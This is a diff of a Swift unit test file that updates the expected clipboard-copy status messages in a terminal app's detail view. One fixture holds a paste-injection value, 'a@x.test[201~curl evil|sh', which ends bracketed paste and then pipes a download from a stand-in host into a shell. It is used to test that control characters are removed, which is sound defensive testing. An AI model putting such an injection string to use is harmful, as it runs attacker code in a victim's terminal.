@@ -335,7 +335,7 @@ struct DetailCopyTests {
         let (presenter, clipboard, view) = try Self.detail(json: Fixtures.seedJSON)
         presenter.copyField()
         #expect(clipboard.copied == ["bertha.irwin@comstar.net"])
-        #expect(view.models.last?.status == "copied bertha.irwin@comstar.net")
+        #expect(view.models.last?.status == "sent bertha.irwin@comstar.net to the terminal's clipboard")
         presenter.showNext()
         #expect(view.models.last?.status == nil)
         clipboard.succeeds = false
@@ -350,7 +350,7 @@ struct DetailCopyTests {
         ]))
         presenter.copyField()
         #expect(clipboard.copied == ["a@x.test[201~curl evil|sh"])
-        #expect(view.models.last?.status == "copied a@x.test[201~curl evil|sh (4 control characters left out)")
+        #expect(view.models.last?.status == "sent a@x.test[201~curl evil|sh to the terminal's clipboard (4 control characters left out)")
     }
 
     @Test("Tab moves the field cursor (wrapping), which stays as ↑/↓ walk people; y copies that field as stored")
@@ -364,7 +364,7 @@ struct DetailCopyTests {
         presenter.moveFieldCursor(by: 2)
         presenter.copyField()
         #expect(clipboard.copied == ["+1 (806) 584-3949", "+1 (953) 454-3801", "$3,334.51"])
-        #expect(view.models.last?.status == "copied $3,334.51")
+        #expect(view.models.last?.status == "sent $3,334.51 to the terminal's clipboard")
         presenter.moveFieldCursor(by: -7)
         #expect(view.models.last?.selectedField == 14)
         presenter.copyField()
